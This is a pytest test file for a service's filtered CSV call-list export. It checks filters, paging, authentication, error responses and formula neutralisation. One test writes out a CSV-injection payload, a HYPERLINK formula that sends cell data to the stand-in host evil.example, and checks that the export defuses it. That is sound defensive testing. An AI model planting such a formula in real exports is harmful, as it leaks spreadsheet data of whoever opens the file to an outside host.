"""The filtered call list as a CSV download, `GET /api/calls.csv` (issue 18): the same calls
as `/api/calls` with the same filters and order, on all pages; spreadsheet formulas in names
and tags neutralised; the same auth and the same 422 for a bad filter. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from service_support import database_url, make_call_result  # noqa: F401 (fixture)
from test_api import AUTH, TOKEN, client, make_client  # noqa: F401 (fixtures)

from callmood import store
from callmood.service.routes.calls import CALL_LIST_CSV_COLUMNS

EMOTION_PATTERNS = [("neutral",), ("angry", "angry"), ("sad", "neutral", "angry"), ("happy",)]


def store_calls(client, count: int) -> None:  # noqa: F811
    """`count` calls a minute apart, varied emotions (so negativity and duration differ), every
    third one tagged "vip"."""
    start = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
    with store.session_scope(client.app.state.session_factory) as session:
        for number in range(count):
            emotions = EMOTION_PATTERNS[number % len(EMOTION_PATTERNS)]
            store.save_call_result(
                session,
                make_call_result(f"c{number:03d}", customer_emotions=emotions),
                name=f"Call {number}",
                tags=["vip"] if number % 3 == 0 else [],
                created_at=start + timedelta(minutes=number),
            )


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="calls.csv"'
    reader = csv.DictReader(io.StringIO(response.text))
    assert tuple(reader.fieldnames or ()) == CALL_LIST_CSV_COLUMNS
    return list(reader)


def all_pages(client, params: dict) -> list[dict]:  # noqa: F811
    items, offset = [], 0
    while offset is not None:
        page = client.get("/api/calls", headers=AUTH, params={**params, "offset": offset})
        assert page.status_code == 200, page.text
        items += page.json()["items"]
        offset = page.json()["next_offset"]
    return items


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"sort": "-negativity"},
        {"sort": "duration", "min_negativity": 0.2},
        {"tag": "vip", "sort": "date"},
        {"created_from": "2026-11-01T09:10:00Z", "created_to": "2026-11-01T09:40:00Z"},
    ],
)
def test_the_csv_has_exactly_the_calls_of_the_filtered_list_on_all_pages(client, params):  # noqa: F811
    store_calls(client, 45)
    listed = all_pages(client, {**params, "limit": 20})
    rows = csv_rows(client.get("/api/calls.csv", headers=AUTH, params=params))
    assert [row["id"] for row in rows] == [call["id"] for call in listed]
    assert len(rows) > 0
    if not params:
        assert len(rows) == 45, "no paging: all calls, not the first page"
    by_id = {call["id"]: call for call in listed}
    for row in rows:
        call = by_id[row["id"]]
        assert row["name"] == call["name"]
        assert row["tags"] == ";".join(call["tags"])
        assert float(row["duration_seconds"]) == pytest.approx(call["duration_seconds"])
        assert row["dominant_emotion"] == (call["dominant_emotion"] or "")
        if call["negativity"] is not None:
            assert float(row["negativity"]) == pytest.approx(call["negativity"], abs=1e-4)
        stored = datetime.fromisoformat(call["created_at"].replace("Z", "+00:00"))
        stored = stored if stored.tzinfo else stored.replace(tzinfo=UTC)
        assert row["created_at_utc"] == stored.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_open_alerts_count_only_the_open_ones(client):  # noqa: F811
    with store.session_scope(client.app.state.session_factory) as session:
        store.save_call_result(session, make_call_result("c1", alert_rules=("a", "b")), name="x")
    first = client.get("/api/alerts", headers=AUTH).json()["items"][0]["id"]
    assert client.post(f"/api/alerts/{first}/acknowledge", headers=AUTH).status_code == 200
    (row,) = csv_rows(client.get("/api/calls.csv", headers=AUTH))
    assert (row["open_alerts"], row["alert_count"]) == ("1", "2")


def test_names_and_tags_that_look_like_formulas_are_neutralised(client):  # noqa: F811
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with store.session_scope(client.app.state.session_factory) as session:
        store.save_call_result(session, make_call_result("c1"), name=formula, tags=["+1", "@x"])
        store.save_call_result(session, make_call_result("c2"), name="-2+3", tags=["plain"])
    rows = {row["id"]: row for row in csv_rows(client.get("/api/calls.csv", headers=AUTH))}
    assert rows["c1"]["name"] == "'" + formula
    assert rows["c1"]["tags"].startswith("'")
    assert rows["c2"]["name"] == "'-2+3" and rows["c2"]["tags"] == "plain"


def test_the_csv_is_refused_without_the_token_and_works_with_the_login_cookie(client):  # noqa: F811
    refused = client.get("/api/calls.csv")
    assert refused.status_code == 401 and "attachment" not in refused.headers.get(
        "content-disposition", ""
    )
    assert client.post("/api/auth/login", json={"token": TOKEN}).status_code == 200
    assert csv_rows(client.get("/api/calls.csv")) == []


@pytest.mark.parametrize(
    "params",
    [{"min_negativity": "2"}, {"sort": "name"}, {"has_alerts": "maybe"}, {"created_from": "x"}],
)
def test_a_bad_filter_gets_the_same_422_as_the_list(client, params):  # noqa: F811
    listed = client.get("/api/calls", headers=AUTH, params=params)
    exported = client.get("/api/calls.csv", headers=AUTH, params=params)
    assert listed.status_code == exported.status_code == 422
    assert exported.json() == listed.json()


def test_the_calls_page_links_the_csv_with_its_filters(client):  # noqa: F811
    store_calls(client, 6)
    assert client.post("/api/auth/login", json={"token": TOKEN}).status_code == 200
    page = client.get("/calls", params={"q": "vip", "sort": "-negativity", "has_alerts": "true"})
    assert page.status_code == 200
    start = page.text.index('id="csv-download" href="') + len('id="csv-download" href="')
    url = page.text[start : page.text.index('"', start)].replace("&amp;", "&")
    assert url.startswith("/api/calls.csv?")
    shown = [line.split('"')[1] for line in page.text.split("data-call-id=")[1:]]
    assert [row["id"] for row in csv_rows(client.get(url))] == shown
    assert shown, "the filters must still match calls, or the test proves nothing"
